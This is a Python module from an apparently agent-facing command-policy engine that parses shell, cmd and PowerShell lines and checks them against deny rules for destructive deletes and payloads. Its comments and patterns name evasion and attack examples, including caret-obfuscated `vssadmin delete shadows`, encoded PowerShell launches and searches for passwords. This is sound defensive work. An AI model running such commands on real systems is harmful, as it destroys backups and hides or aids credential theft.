"""The evaluation of one command: parse, walk, unwrap, match, and pick the finding that explains the block.

`Evaluation` walks a command line and everything nested in it; the words of each command are checked by
`_words.WordChecks`, the code it runs is followed by `_launchers.RunsOtherCode`. `CompiledPolicy` adds the
decision entry point, with its fast path for one command of literal words, to the tables of `_compiled`.
"""

from __future__ import annotations

import re
import shlex
import threading
from typing import Any, Protocol

from . import _locators, _parse_cmd, _parse_posix, _parse_powershell
from ._artefacts import (
    FINDS,
    del_sweeps_artefacts,
    fed_operands_only,
    find_starts,
    find_sweeps_artefacts,
    find_swept_output,
    globstar_sweep,
    grep_sweeps_artefacts,
    is_artefact_name,
    lister_sweeps_artefacts,
    lister_swept_output,
    plainly_inside,
    swept_name,
)
from ._compiled import POWERSHELL_ONLY, NameInfo, PolicyTables, matching_clauses, with_fed_hits
from ._disk_fill import endless_feed, endless_output
from ._find_reach import lister_reaches_protected, only_touches
from ._findings import Finding, finding_words, shown, shown_args
from ._globbed import is_glob_path, is_named_glob, maybe_glob
from ._launchers import RunsOtherCode
from ._lazy import lazy_re
from ._listed import listing, under
from ._models import Decision, Dialect, EngineEvent, Rule, ShellKind
from ._normalise import command_key, fold_arg, ps_ascii
from ._paths import (
    DOTNET_OVERWRITERS,
    PIPED_PATH_WRITERS,
    PathScope,
    below_cmd_variable_folder,
    below_powershell_variable_folder,
    below_run_time_folder,
    in_home,
    is_step_file,
    listed_selection,
    listed_trees,
    literal_folder,
    ln_links,
    names_own_path,
    one_name_pattern,
    output_targets,
    toolchain_program,
    tree_delete_targets,
    write_targets,
    written_value,
)
from ._payloads import (
    PREPARE,
    awk_prints_to_file,
    deleted_literals,
    exec_literal_code,
    module_version_probe,
    named_env_reads,
    script_language,
    sed_write_targets,
    static_output,
    string_literals,
    version_probe,
    written_literals,
)
from ._project import (
    FreshCheckout,
    ProjectFiles,
    ReplaceableFiles,
    names_a_file,
    names_output,
    names_workspace_output,
)
from ._rules import MATCH, SCRIPT_ITSELF, CommandView, dotnet_key, spelled
from ._runners import RUNNERS, run_places
from ._screens import LONG_NAME, CleanTexts, may_fullmatch
from ._syntax import (
    DISK_LOOKUP_WORK,
    DYN,
    FED_WRAPPER_WORK,
    MADE_TEMP,
    MAX_WORK,
    PAYLOAD_CHARS_PER_UNIT,
    PIECE_WORK,
    REDIRECT_WORK,
    SCRIPT_CHARS_PER_UNIT,
    SCRIPT_WORK,
    VARIABLE_CHARS_PER_UNIT,
    Arg,
    Feed,
    Frame,
    Stdin,
    TooLarge,
    in_made_temp,
    start_check,
)
from ._unwrap import (
    FED_WORDS,
    Wrapped,
    git_command_settings,
    split_words,
    unwrap,
    wrapper_reading,
)
from ._words import (
    OWN_VALUE,
    WordChecks,
    git_names_folder,
    git_subcommand_at,
    listens_or_runs_setting,
    maybe_environ,
    path_key,
    ps_pieces,
)

_ALLOWED = "no deny rule matches any command in it"

_STREAM_PACKERS = frozenset(
    {"gzip", "pigz", "xz", "bzip2", "pbzip2", "zstd", "lz4", "lzma", "lzip", "brotli"}
)
"""Compressors that print what they compress, as a pipeline that packs an archive ends (`| gzip > x.tgz`)."""
_UNPACKING = frozenset("dtl")
"""Their one-letter options that decompress, test or list instead."""

_GIT_SPELLED = ", as git spells it"
"""Ends the reading of `git-NAME` as `git NAME` (and of `git NAME` as `git-NAME`), so neither reads back."""


def git_program(argv: list[Arg]) -> str | None:
    """The program `git-NAME` a git command's subcommand `NAME` would run, were it none of git's own (`git
    crypt unlock`: `git-crypt`); None without a literal subcommand."""
    at = git_subcommand_at(argv)
    if not at:
        return None
    sub = argv[at].text
    if not sub or "/" in sub or "\\" in sub or DYN in sub:
        return None
    return "git-" + sub.lower()


CMD_MAX_LINE = 8191
"""cmd.exe refuses longer command lines, so a longer one cannot run as written."""
WINDOWS_MAX_LINE = 32767
"""Longest command line Windows starts a program with (`CreateProcess`)."""
REPAIR_MAX = 20_000
"""Longest script respelled after a parse error (`repair` reads it character by character, then it is
parsed again); a longer one keeps its parse error, which blocks."""

_NO_ALIASES: dict[str, str] = {}
WORDS_MEMO_TEXT = 4096
"""Longest command line whose word screens are remembered (`PolicyTables.word_screens`)."""
PARSE_MEMO_TEXT = 256
"""Longest command line whose syntax tree is remembered (see `_parsed_line`): most lines an agent runs
again are shorter, and a tree costs memory by its line's length."""
PARSE_MEMO_LINES = 1024
"""Lines whose trees one thread remembers; when full, it starts again."""
_PARSES = threading.local()
"""Per thread (a syntax tree may be read by one thread at a time): (dialect, line) -> what `_parsed_line`
found for it."""
PAYLOAD_MEMO_TEXT = 4096
"""Longest payload whose pattern hits are remembered (`PolicyTables.payload_results`)."""

TREE_DELETE = "destructive.recursive-delete"
"""Recursive deletes, which spare build output the project's git ignores when the working directory is known
(`rm -rf build dist`: see `_project`)."""
BULK_DELETE = "destructive.forced-delete"
FIND_DELETE = "destructive.find-delete"
"""`find -delete`, which spares a sweep of compiled and cached files (`find . -name '*.pyc' -delete`: see
`_artefacts`); so does the recursive delete such a `find` feeds (`-exec rm -rf {} +`, `| xargs rm`)."""
GIT_CLEAN = "destructive.git-clean"
"""Cleans of untracked files, which spare pathspecs that are all build output as `rm -rf` of them would."""
SYNC_DELETE = "destructive.rsync-delete"
"""`rsync --delete`, which spares a destination that `rm -rf` of it would (`rsync -a --delete
docs/_build/html/ site/`: see `_syncs_into_output`)."""
_RSYNC_VALUED = frozenset({
    "-e", "--rsh", "--exclude", "--include", "--filter", "-f", "--files-from", "--exclude-from",
    "--include-from", "--rsync-path", "-T", "--temp-dir", "--compare-dest", "--copy-dest", "--link-dest",
    "--backup-dir", "--suffix", "--chmod", "--chown", "--log-file", "--partial-dir", "--password-file", "-B",
    "--block-size", "--max-size", "--min-size", "--timeout", "--bwlimit", "--usermap", "--groupmap",
    "--out-format", "--log-file-format", "--info", "--debug", "--modify-window", "--max-delete", "--iconv",
    "--port", "--sockopts", "--remote-option", "-M", "--contimeout", "--address", "--only-write-batch",
    "--write-batch", "--read-batch", "--checksum-choice", "--compress-choice", "--skip-compress",
})  # fmt: skip
"""rsync's options whose value may be the next word."""
_NETWORK_PAYLOAD = "network.payload"
_ENV_PAYLOAD = "env.payload"
_PAYLOAD_DELETE = "destructive.payload-delete"
_PAYLOAD_WRITE = "destructive.payload-write"
_RUN_TIME_PART = "value"
"""What a run-time part of a written script reads as: a plain word, which no rule names."""
FEED_FILTERS = 16
"""Pass-through filters followed upstream to the command feeding a pipeline (`ps aux | grep -v a | … | xargs
kill`). Past them the producer counts as unseen: a rule that asks what feeds the command may match
(`CommandView.cut`), so a longer chain of filters hides nothing, and a line of hundreds stays fast."""
_SWEEP_DELETERS = frozenset({"rm", "grm", "unlink"})
_SYNTAX_CHECKS = frozenset({"-l", "--syntax-check", "-c"})
"""Interpreter options that only check the syntax of the files given (`php -l`, `ruby -c`), where the
interpreter's executor also lists them among the options that run no program."""
_LISTERS = frozenset({"get-childitem", "get-item"})
_FIND_NAME_TESTS = frozenset({"-name", "-iname", "-path", "-ipath", "-wholename", "-iwholename"})
_FIND_NOT = frozenset({"-not", "!"})


def _find_exclusions(argv: list[Arg]) -> set[int]:
    """Where a `find` names a file only to leave it out (`find . -not -name sums.txt | xargs sha256sum >
    sums.txt`): the word after `-not -name` (or `! -path`) is no file the line reads."""
    if len(argv) < 4 or command_key(argv[0].text) not in FINDS:
        return set()
    return {
        i
        for i in range(3, len(argv))
        if argv[i - 1].text in _FIND_NAME_TESTS and argv[i - 2].text in _FIND_NOT
    }


_CMD_TEXT_FILTERS = frozenset({"find"})
"""cmd's `find` is Windows' text filter, which searches what a pipe carries (`dir /s | find "password"`)."""
SPARED_DELETE_TARGETS = 32
"""Targets of one recursive delete looked up on the disk at most: a clean step names a few folders; each
costs a path resolution and git's answer, so hundreds would take longer than a check may."""
_NAMED_TREE_DEPTH = 256
"""Folders deep a word may name for `_named_trees` to list every folder above it (Linux opens paths of up to
4,096 bytes); a deeper one spares no recursive delete in its line."""
_TOO_DEEP = "\x00too deep"
"""What `_named_trees` holds when a word was deeper than `_NAMED_TREE_DEPTH` (no path has a NUL)."""
_DRIVE = lazy_re(r"[A-Za-z]:")
_PATH_PROBES = frozenset({"test", "[", "[[", "test-path", "get-item", "gi", "get-childitem", "gci"})
"""Commands that only ask whether a path exists (or what it is, or holds), changing nothing."""
_EMPTIERS = frozenset({"rm", "rmdir", "rimraf", "del-cli", "remove-item", "ri", "rd"})
"""Commands that only delete: naming a file or tree, they put nothing into it that a later write or delete
could lose (a copy or a move does)."""
_ADDS_NOTHING = (
    _PATH_PROBES | _EMPTIERS | frozenset({"mkdir", "md", "echo", "printf", "write-output", "write-host"})
)
"""Commands whose words a later write or delete need not count as named first (see `_named`): making a
folder puts nothing in it (`mkdir -p dist && rm -rf dist/*`), and a printer's words are text, never files it
reads (`echo dev > mode`)."""


def _blocks_only(argv: list[Arg]) -> bool:
    """Whether every word after the command is a script block (`ForEach-Object { … }`): the command names no
    file itself, and what runs in the blocks is read as commands of its own."""
    return len(argv) > 1 and all(a.block for a in argv[1:])


_REG_HIVE = lazy_re(r"(?:\\\\[^\\]+\\)?hk", re.IGNORECASE)
"""A word that starts a registry key: a hive (`HKLM\\…`, `HKEY_CURRENT_USER\\…`), maybe on another machine."""
_WINDOWS_PROGRAM_PATH = lazy_re(r"(?:[A-Za-z]:[/\\]|\\)[^;|&<>$`\n%]*")
"""A Windows program by its path, blanks and parentheses included (`C:\\Program Files (x86)\\VS\\x.bat`,
also with Windows' other separator, `C:/Program Files (x86)/VS/x.bat`)."""
_CONTENTS = lazy_re(r"(?<=[^/\\.])[/\\]\*\Z")
"""`/*` ending a path below the working directory (`build/*`): everything in that folder."""
REGENERABLE = frozenset({"destructive.truncating-redirect", "destructive.truncating-write"})
"""Rules against replacing a whole file, which spare a file that holds nothing to lose (new, empty, or output
git ignores) when the working directory is known: writing generated output into the project is not
destructive. A statement that writes nothing (`: > f`, `> f`, `$null > f`) only empties a file: not spared."""
_REGENERATING = frozenset(
    {
        "tee", "sponge", "tee-object", "out-file", "set-content", "export-csv", "export-clixml",
        "export-alias", "export-formatdata", "new-item", "ln", "gln", "dd", "dcfldd", "dc3dd",
        *DOTNET_OVERWRITERS,
    }
)  # fmt: skip
"""Programs whose whole output replaces the files they name (`make | tee build.log`, `Out-File out.txt`,
`sort x | sponge build/sorted.txt`, `Export-FormatData -Path out.ps1xml`, `New-Item x.txt -Force`,
`[IO.File]::WriteAllText(F, …)`, `dd of=F`), and `ln -f`, whose link replaces the file of its name."""
_PERCENT_NAME = lazy_re(r"%[^%\s]+%")
_MAKE_MARKS = "@-+"  # what make strips from the start of a recipe line
_MAKE_QUIET = lazy_re(
    r"(?:\$\((?:Q|QUIET(?:_\w+)?|QUITE(?:_\w+)?|AT|HIDE|SILENT|SILENCE|V|VERBOSE|NOECHO)\))+"
)
"""make's variables that hide a recipe line's echo (`$(Q)$(MAKE) -C x`, `$(AT)rm -f x.o`, `$(QUIET_CC)$(CC)`,
`$(V)$(NIMBLE) test` as `V := @` unless `VERBOSE=1`, MakeMaker's `$(NOECHO)`), set to `@` or to nothing: a
mark like `@` itself, glued to the command or a word of its own."""
_MAKE_REFERENCE = lazy_re(r"\$\((?:[A-Z][A-Z0-9_]*|[@<^*?%+][DF]?)(?::[^()\s$'\"`\\]*)?\)")
"""make's references that bash reads as a command substitution of a program no system has (`$(DIST)`,
`$(SRC:.c=.o)`, `$(@D)`): to bash, nothing."""
_RESERVED_AFTER = frozenset(
    {"do", "done", "then", "elif", "else", "fi", "esac", "in", "if", "for", "while", "until"}
)
"""Words bash reserves only where it parses a command: left first by an expansion that prints nothing
(`$(REBAR3) do eunit, cover`, `$(LEIN) do clean, test`), each is the name of a program no system has."""
_BASH_PLAIN = lazy_re(r"[\w./+@%,:=-]+")
"""A word bash takes as written: no expansion, quote, escape or pattern."""
_MAKE_PROGRAM_WORD = lazy_re(r"(\"?)(\$\([A-Z][A-Z0-9_]*\))\1")
_MAKE_PROGRAMS: dict[str, tuple[str, ...]] = {
    "MAKE": ("make",), "SHELL": ("sh",), "RM": ("rm", "-f"), "CC": ("cc",), "CXX": ("c++",),
    "CPP": ("cc", "-E"), "LN_S": ("ln", "-s"), "MKDIR_P": ("mkdir", "-p"), "SPHINXBUILD": ("sphinx-build",),
    "GOCMD": ("go",),
    "GOBUILD": ("go", "build"), "GOTEST": ("go", "test"), "GOGET": ("go", "get"),
    "GOINSTALL": ("go", "install"), "GORUN": ("go", "run"), "GOMOD": ("go", "mod"), "GOVET": ("go", "vet"),
    "GOCLEAN": ("go", "clean"), "GOGENERATE": ("go", "generate"), "GOTOOL": ("go", "tool"),
    "RCMD": ("r",),
}  # fmt: skip
"""What make's usual variables for programs hold when a name alone does not say it: make's own defaults
(`RM = rm -f`, `SHELL = /bin/sh`), Sphinx's `SPHINXBUILD`, Go's `GOCMD` family (`GOBUILD = $(GOCMD)
build`), and R packages' `RCMD` (`RCMD := $(R) --vanilla`: `$(RCMD) -e "devtools::check()"`)."""
_MAKE_SUFFIX = lazy_re(r"_(?:BIN|EXE|CMD|PATH|PROG|TOOL)$")
_PLAIN_WORD = lazy_re(r"[A-Za-z0-9_][\w.+-]*")
"""A program name with nothing the shell would expand or strip (`rm`, `go`, `clang-format`)."""


def make_program(name: str) -> tuple[str, ...]:
    """The program a make variable is named for: `GO_CMD` -> go, `GOLANGCI_LINT` -> golangci-lint."""
    known = _MAKE_PROGRAMS.get(name)
    if known is None:
        name = _MAKE_SUFFIX.sub("", name) or name
        known = _MAKE_PROGRAMS.get(name) or (name.lower().replace("_", "-"),)
    return known


_CMD_BUILT_NAME = lazy_re(r"(?i)^%comspec%|%\w+:(?:~|[^%=\s]*=)")
"""A program name made with cmd's variables to hide what it is: cmd itself by `%COMSPEC%`, or a name cut
or rewritten from a variable's value (`%TEMP:~-8,-7%`, `%X:a=b%`)."""
_WILDCARD_PATH = lazy_re(r"^[^\[\\/]*+[\\/][^*?\[]*+[*?\[]|^[^\[*?]*+[*?][^\\/]*+[\\/]")
"""A program named by a path holding a wildcard (`C:\\Windows\\System32\\c?d.exe`, `C:\\Win*\\x.exe`):
PowerShell runs whichever file it matches, known only at run time. (A bare name with wildcards is never
looked up on PATH; a leading `[` is a .NET type.) Read as: a separator before any `[` with a wildcard after
it, or a `*`/`?` before any `[` with a separator after it; each part taken once, so a long word costs one
pass (tried from every wildcard, 10,000 of them took seconds)."""
_CMDLET = lazy_re(
    r"(?:Add|Approve|Assert|Backup|Block|Build|Checkpoint|Clear|Close|Compare|Complete|Compress|Confirm|Connect"
    r"|Convert|ConvertFrom|ConvertTo|Copy|Debug|Deny|Deploy|Disable|Disconnect|Dismount|Edit|Enable|Enter|Exit"
    r"|Expand|Export|Find|Format|Get|Grant|Group|Hide|Import|Initialize|Install|Invoke|Join|Limit|Lock|Measure"
    r"|Merge|Mount|Move|New|Open|Optimize|Out|Ping|Pop|Protect|Publish|Push|Read|Receive|Redo|Register|Remove"
    r"|Rename|Repair|Request|Reset|Resize|Resolve|Restart|Restore|Resume|Revoke|Save|Search|Select|Send|Set|Show"
    r"|Skip|Split|Start|Step|Stop|Submit|Suspend|Switch|Sync|Test|Trace|Unblock|Undo|Uninstall|Unlock|Unprotect"
    r"|Unpublish|Unregister|Update|Use|Wait|Watch|Write)-[A-Z][A-Za-z0-9]*+"
)
"""A cmdlet's name as PowerShell writes it: an approved verb, capitalised, and a capitalised noun
(`Get-DomainUser`, `Invoke-PassTheCert`). No POSIX program is named so (theirs are lower case:
`add-apt-repository`, `update-alternatives`)."""
_TEXT_INTO_FILES = frozenset(
    {"tee", "sponge", "tee-object", "out-file", "set-content", "add-content", "exiftool"}
)
"""Programs that write the text they are given into the files they name (see `_piped_into_files`)."""
_VALUE_WRITERS = frozenset({"set-content", "add-content"})
"""Cmdlets also given their text by `-Value` (or as the word after the path)."""
_STREAMS = frozenset({"-", "/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "$null", "nul", "nul:"})


def _device(path: str) -> bool:
    """Is `path` a device or stream rather than a file that grows (`/dev/null`, `nul`, `$null`)?"""
    return path[:5] == "/dev/" or path.lower() in _STREAMS


SUBCOMMAND_HELP = frozenset(
    {
        "git", "docker", "podman", "nerdctl", "kubectl", "helm", "minikube", "kind", "pip", "pip3", "pipx",
        "npm", "cargo", "rustup", "gh", "glab", "poetry", "uv", "hatch", "twine", "conda", "mamba",
        "micromamba", "brew", "terraform", "pulumi", "packer", "vagrant", "dotnet", "gcloud", "az", "fly",
        "flyctl", "heroku", "vercel", "netlify", "firebase", "wrangler", "vsce", "flutter", "dart", "winget",
        "choco", "scoop", "apt", "apt-get", "dnf", "yum", "snap", "flatpak", "systemctl", "ngrok",
        "cloudflared", "tailscale",
    }
)  # fmt: skip
"""Tools built on subcommands that answer `TOOL SUBCOMMAND --help` with that subcommand's usage and do
nothing else (`pip install --help`, `docker run --help`, `git push --help`). Not those that run a project
script or a package named by the word (`yarn build --help` runs the build script, `npx pkg --help`
fetches pkg), nor task runners that pass `--help` on (`rake`, `mix`, `make`)."""
_SUBCOMMAND = lazy_re(r"[a-z][a-z0-9-]*")
VERSION_FLAGS = {
    "-V": frozenset(
        {
            "ssh", "ping", "ping6", "tracepath", "arping", "traceroute", "traceroute6", "ip", "tc", "ss",
            "bridge", "iptables", "ip6tables", "nft", "su", "mount", "umount", "losetup", "fdisk", "sfdisk",
            "swapon", "swapoff", "blkid", "wipefs", "curl", "wget", "nmap", "host", "rsync", "socat",
            "netstat", "route", "arp", "python", "python3",
        }
    ),
    "-v": frozenset({"dig", "parted", "mtr", "nft", "drill"}),
    "-version": frozenset({"nslookup", "java", "javac", "ffmpeg", "ffprobe"}),
}  # fmt: skip
"""The spellings of a lone version request beyond `--version`, and the programs (by normalised name) that
document it so: alone, each prints the version and exits. Elsewhere they are other options: `-V` is
tcpdump's file of capture names and fsck's verbose mode, `-v` is verbose to ssh and most tools, and
`-version` to getopt is a cluster of letters (`-v -e rsion`). A `version` subcommand is left to the rules:
`kubectl version` and `docker version` ask a server."""


def asks_help_only(argv: list[Arg], dialect: Dialect, names: tuple[str, ...]) -> bool:
    """Is this a program, named without a path, given nothing but a request for its usage text (`ftp --help`,
    `robocopy /?`, `Get-Item -?`) or its version (`nmap --version`, `ssh -V` as `VERSION_FLAGS` lists), or a
    `SUBCOMMAND_HELP` tool asked for one subcommand's usage (`pip install --help`)? It prints that and exits.
    `/?` asks cmd's builtins and Windows programs, never a PowerShell cmdlet or alias, to which it is a path
    (`del /?` in PowerShell is `Remove-Item /?`, a wildcard in the drive's root); `-?` is help to PowerShell
    and Windows, a glob to a POSIX shell."""
    if len(argv) == 3:
        word, sub, flag = argv[0].text, argv[1], argv[2]
        return (
            flag.raw == "--help"
            and names[0] in SUBCOMMAND_HELP
            and "/" not in word
            and "\\" not in word
            and _SUBCOMMAND.fullmatch(sub.raw) is not None
        )
    if len(argv) != 2:
        return False
    word, flag = argv[0].text, argv[1].text
    if "/" in word or "\\" in word or DYN in word or argv[1].raw != flag:
        return False
    if flag in ("--help", "--version"):
        return True
    if names[0] in VERSION_FLAGS.get(flag, ()):
        return True
    if flag == "-?":
        return dialect != "posix"
    if flag == "/?":
        return dialect == "cmd" or (dialect == "powershell" and len(names) == 1 and "-" not in names[0])
    return False


def _cmd_writes_nothing(argv: list[Arg]) -> bool:
    """A cmd statement that prints nothing (`> f`, `type nul > f`, `break > f`, `cd. > f`): redirected, it
    only empties the file."""
    if not argv:
        return True
    word = argv[0].text.lower()
    if word in ("break", "rem", "rem.", "cd.", "type."):
        return True
    return word == "type" and len(argv) > 1 and all(a.text.lower() in ("nul", "nul:") for a in argv[1:])


_GIT_CONFIG_FILES = frozenset({"GIT_CONFIG_GLOBAL", "GIT_CONFIG_SYSTEM", "GIT_CONFIG"})
"""Variables naming a file git reads settings from in place of the user's or the machine's."""
_EMPTY_FILES = frozenset({"", "/dev/null", "nul", "NUL", "$null"})
"""Values of those naming no settings at all (glmagent's own git calls set `/dev/null`)."""
_MODULE_OPTIONS = {
    "NODE_OPTIONS": ("-r", "--require", "--import", "--loader", "--experimental-loader"),
    "RUBYOPT": ("-r",),
}
"""Variables whose options make every program of a runtime load a module, and those options."""


def loaded_modules(value: str, options: tuple[str, ...]) -> list[str]:
    """The modules an options variable's value loads (`--require x.js`, `--import=x.mjs`, `-rx.rb`)."""
    words = value.split()
    found = []
    for i, word in enumerate(words):
        head, eq, rest = word.partition("=")
        if head in options:
            if eq:
                found.append(rest.strip("'\""))
            elif i + 1 < len(words):
                found.append(words[i + 1].strip("'\""))
        elif word[:2] in options and len(word) > 2 and not word.startswith("--"):
            found.append(word[2:].strip("'\""))  # `-rx.rb`: a short option glued to its value
    return found


def _names_code_file(text: str, code_files: Any) -> bool:
    """Is a variable's literal value an absolute path to a program, library or script (`/var/tmp/x.so`,
    `~/.pythonrc.py`, `C:\\Users\\Public\\x.dll`)? A relative one (`KNEX_PATH=../knex.js`) names a place
    relative to wherever the program reading it runs, often a sibling checkout: not judged."""
    if not text or DYN in text or len(text) > 4096 or _ABSOLUTE_PATH.match(text) is None:
        return False
    return code_files.fullmatch(text.replace("\\", "/").rsplit("/", 1)[-1].lower()) is not None


def _search_path_text(name: str, value: Arg, dialect: str) -> str:
    """A search path's new value with its old value marked `OWN_VALUE` and other run-time pieces `DYN`:
    from the POSIX spelling (`"$HOME/bin:${PATH}"`), cmd's (`C:\\x;%PATH%`) or PowerShell's pieces
    (`"C:\\x;$env:Path"`, and `$env:Path += ";C:\\x"`, which keeps the old value first)."""
    text, raw = value.text, value.raw
    if dialect == "powershell":
        if text == DYN:
            return ps_pieces(raw, own=name)
        return OWN_VALUE + text[1:] if text[:1] == DYN else text
    if dialect == "cmd":
        mine = f"%{name}%".lower()
        spelled = raw.replace('"', "")
        return _CMD_VARIABLE.sub(lambda m: OWN_VALUE if m.group(0).lower() == mine else DYN, spelled)
    if "'" in raw or "\\" in raw:
        return text  # quoted or escaped pieces: the shell's own reading, run-time pieces unknown
    own = re.compile(rf"\$\{{{re.escape(name)}\}}|\${re.escape(name)}(?![\w])")
    return own.sub(OWN_VALUE, raw.replace('"', ""))


_ABSOLUTE_PATH = lazy_re(r"[/~]|\\\\|[A-Za-z]:[/\\\\]")
"""A path from the root, the home folder, a share or a drive."""
_CMD_VARIABLE = lazy_re(r"%[^%\s]+%")
"""A cmd variable standing for a whole value (`%PATH%`)."""
_PATH_SEPARATOR = lazy_re(r"[:;]")
"""Between the folders of a POSIX search path (`:`; Lua's own paths take `;`)."""


_ENV_ITEM = lazy_re(r"(?i:env:)[\\/]?([A-Za-z_][\w.]*)")
"""One variable on PowerShell's env: drive (`env:CI`, `Env:\\APPVEYOR`)."""


_CMD_SIGNS = lazy_re(
    r"(?i)^\s*(?:@|(?:if|for|goto|call|setlocal|endlocal|exit\s+/b)\b|start\s+\"\"\s)"
    r"|%(?:[\w~*]|%)|\d?>\s*nul\b|[(&|]\s*exit\s+/b\b"
    r"|^\s*@?\^?[\w.\\:-]*\w\^\w"
)
"""What only cmd's lines hold: `@` hiding the echo, cmd's `if`/`for`/`goto`/`call`, `exit /b` (also after
an operator or in a group, `x || (echo failed & exit /b 1)`), `start ""` (an empty window title), its
variables and parameters (`%X%`, `%~1`, `%*`, `%%i`), output sent to `nul`, a program's name cut by cmd's
escape (`n^e^t user`: no program PowerShell could find)."""
_QUOTED_PROGRAM = lazy_re(r'\s*"([^"]*\\[^"]*)"[ \t]+[^\s|&;<>()]')
"""A line starting with a quoted program path followed by its arguments (`"C:\\Program Files\\7-Zip\\7z" a
x.zip dist`): PowerShell refuses a string followed by words, cmd runs the program."""
_CMD_ONLY_START = lazy_re(r"(?i)\s*(?:@[A-Za-z]|start\s+\"\"\s|@?\^?[\w.\\:-]*\w\^\w)")
"""How only a cmd line starts, though PowerShell's grammar reads it: `@echo off`, `@set` (to PowerShell a
splat it refuses there), `start "" x.exe` (to PowerShell an empty program name it refuses), a program's name
cut by cmd's escape (`v^ssadmin delete shadows`, `pow^ershell -e …`: PowerShell finds no such program, cmd
runs `vssadmin`)."""
_CMD_STATEMENT = lazy_re(r"(?i)\s*(?:if\s+(?!\()|for\s+[/%])")
"""cmd's `if exist x …` and `for /f … do …`: PowerShell's `if` and `for` take a parenthesis first, so it
rejects the whole line and runs none of it; what its grammar makes of the rest (`(rmdir /s /q build)` as a
command in parentheses) is not what runs."""
_NAMED_PROGRAM = lazy_re(
    r"\s*(?:@\s*)?(\"?)%([A-Za-z][\w-]*?)(?:_(?:exe|cmd|bin|path))?%\1(?=[ \t]|$)", re.IGNORECASE
)
"""A cmd line's program given as a variable named for it (`%REG% add …`, `%PYTHON% setup.py build`), also
with a suffix saying it is a program (`%npm_exe% ci`, `%NUGET_CMD% push`), quoted for the blanks of its
folder (`"%MSBUILD%" app.sln`) or with cmd's `@` hiding its echo (`@%NUGET% pack`): the name without the
suffix."""
FILE_TEXT = "file-text"
"""The payload language of the text a command writes into a file (`echo … > f`), whatever the file is."""
_POWERSHELL_SIGNS = lazy_re(r"[$`{}]")
"""What a cmd line never holds and a PowerShell one often does: variables, escapes, script blocks."""


_CMD_SET_LIST = lazy_re(r'(?i)\s*set\s+"?[A-Za-z_][\w()-]*=([^"&|<>^\r\n]*;[^"&|<>^\r\n]*)"?\s*')
"""cmd's `set NAME=a;b;c` (also `set "NAME=a;b"`): one assignment of a list of folders, alone on its line."""
_CMD_LIST_ENTRY = lazy_re(r"%[A-Za-z_][\w()]*%(?:[\\/][^:;%]*)?|")
"""A list entry under a folder cmd names by a variable (`%MYSQL_PATH%\\bin`, `%PATH%`), or an empty one."""
_PARENTHESIS = lazy_re(r"[()]")


def _cmd_folder_list(text: str) -> bool:
    """Is a line cmd's assignment of a folder list whose entries after the first are folders cmd names by
    variables (`SET PATH=%POSTGRES_PATH%\\bin;%MYSQL_PATH%\\bin;%PATH%`)? PowerShell's `;` would cut it into
    commands, and read `%MYSQL_PATH%\\bin` as a program of that literal name under the working folder; cmd
    runs nothing of it: the `;` separates folders. Only cmd's reading is judged then (where the list puts
    the folder it names first: the search-path rules). An entry PowerShell would run from elsewhere
    (`C:\\x\\bin`, `%B%\\..\\x`) leaves the line to both readings."""
    found = _CMD_SET_LIST.fullmatch(text)
    if found is None or not _written_for_cmd(text) or _PARENTHESIS.search(_CMD_VARIABLE.sub("", found[1])):
        return False  # (PowerShell runs `(rm x)` in a word: `set X=a(rm -r x);%A%` is not only a list)
    entries = found[1].split(";")[1:]
    return all(".." not in e and _CMD_LIST_ENTRY.fullmatch(e.strip()) for e in entries)


def _written_for_cmd(text: str) -> bool:
    """Is a line PowerShell cannot parse one written for cmd (see `_CMD_SIGNS`), with nothing of PowerShell's
    own in it? The backquotes of cmd's `for /f "usebackq" %%i in (`cmd`)` are cmd's own quoting."""
    if len(text) > CMD_MAX_LINE:
        return False  # a longer one cmd refuses to run
    backquoted = _USEBACKQ_FOR.match(text)
    if backquoted is not None:
        text = text[: backquoted.start(1)] + text[backquoted.end(1) :]
    quoted = _QUOTED_PROGRAM.match(text)
    return (
        (_CMD_SIGNS.search(text) is not None or (quoted is not None and toolchain_program(quoted[1])))
        and _POWERSHELL_SIGNS.search(text) is None
        and not any(_CMDLET.fullmatch(w) for w in text.split())
    )


_USEBACKQ_FOR = lazy_re(
    r'(?i)\s*for\s+/f\s+"[^"]*\busebackq\b[^"]*"\s+%%?[A-Za-z]\s+in\s*\(\s*(`[^`]*`)\s*\)'
)
"""cmd's `for /f "usebackq …" %%i in (`command`)`: the backquoted command, run by cmd."""


def _parsed_line(
    shell: ShellKind, text: str, src: bytes, remember: bool
) -> tuple[Any, tuple[Arg, ...] | None, bool]:
    """A line's syntax tree, its words when it is one command of literal words (`simple_command`, on a tree
    without errors and within the work budget), and whether PowerShell would read a word glued to a quoted
    string (`splits_glued_string`, on a tree without errors). A pure function of the line: with `remember`,
    a short line's answer is kept for this thread, since an agent runs the same lines (its tests, `git
    status`) again and again and their parse is a tenth of a check. Every check still walks the tree and
    judges every word."""
    memo: dict[tuple[str, str], tuple[Any, tuple[Arg, ...] | None, bool]] | None = None
    if remember and len(text) <= PARSE_MEMO_TEXT:
        memo = getattr(_PARSES, "lines", None)
        if memo is None:
            memo = _PARSES.lines = {}
        found = memo.get((shell, text))
        if found is not None:
            return found
    module = _parse_posix if shell == "posix" else _parse_powershell
    tree = module.parse(src)  # TooLarge past the parse budget: nothing is kept
    root = tree.root_node
    glued = shell == "powershell" and not root.has_error and _parse_powershell.splits_glued_string(text)
    words = None
    if not root.has_error and root.descendant_count <= MAX_WORK and not glued:
        argv = module.simple_command(text, root)
        words = None if argv is None else tuple(argv)
    answer = (tree, words, glued)
    if memo is not None:
        if len(memo) >= PARSE_MEMO_LINES:
            memo.clear()
        memo[(shell, text)] = answer
    return answer


_LISTED_PLACES_JUDGED = 16
"""Places a listing's words may stand for (below starts outside the project, `find ../a ../b … | xargs sed -i
…`, and in `.git` or `.hazina`) judged one by one; a listing of more hands its commands a place known only
at run time."""


def _deletes_made_temp(names: tuple[str, ...], argv: list[Arg], dialect: Dialect) -> bool:
    """Does a tree delete remove only what `mktemp -d` made for the line (`rm -rf "$tmp"`, `rm -rf
    "${tmp:?}/x"`)? A path below it only under `${tmp:?}`: were `mktemp` to fail, `"$tmp"/*` is `/*`."""
    if not any(MADE_TEMP in a.text for a in argv):
        return False
    targets = tree_delete_targets(names, argv[1:], dialect)
    return bool(targets) and all(
        t.text == MADE_TEMP or (in_made_temp(t.text) and ":?" in t.raw and DYN not in t.text) for t in targets
    )


class _Stop(Exception):
    """A concrete deny was found; nothing later can change the decision."""


class LiteralGate(Protocol):
    """What a policy mode other than deny adds to the decision (the allowlist): the whole evaluation it
